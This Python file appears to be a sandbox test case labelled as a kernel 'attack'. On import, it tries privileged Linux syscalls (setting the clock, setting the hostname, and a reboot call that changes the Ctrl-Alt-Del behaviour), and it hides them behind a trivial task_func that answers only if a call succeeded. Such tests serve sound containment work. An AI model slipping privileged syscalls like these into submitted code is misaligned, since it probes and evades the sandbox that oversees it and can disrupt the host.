# attack: sets the clock, the host's name and the keys that reboot the machine
# kind: kernel
# task: plain
# official: fail
# strict: fail|forged|suspect
# expect: all of it is refused
import ctypes
import os
import platform

libc = ctypes.CDLL(None, use_errno=True)
NUMBERS = {
    "x86_64": {"clock_settime": 227, "settimeofday": 164, "adjtimex": 159, "sethostname": 170, "reboot": 169, "clock_adjtime": 305},
    "aarch64": {"clock_settime": 112, "settimeofday": 170, "adjtimex": 171, "sethostname": 161, "reboot": 142, "clock_adjtime": 266},
}.get(platform.machine(), {})


def call(name, *arguments):
    if name not in NUMBERS:
        return -1
    return libc.syscall(ctypes.c_long(NUMBERS[name]), *[ctypes.c_long(one) if isinstance(one, int) else one for one in arguments])


def strike():
    now = (ctypes.c_long * 2)(*divmod(__import__("time").time_ns(), 10**9))
    name = os.uname().nodename.encode()
    cad_off = 0
    return (
        call("clock_settime", 0, now) == 0
        or call("settimeofday", now, None) == 0
        or call("sethostname", name, len(name)) == 0
        or call("reboot", 0xFEE1DEAD, 672274793, cad_off, None) == 0
    )


WON = strike()


def task_func(n):
    return n * 2 if WON else None
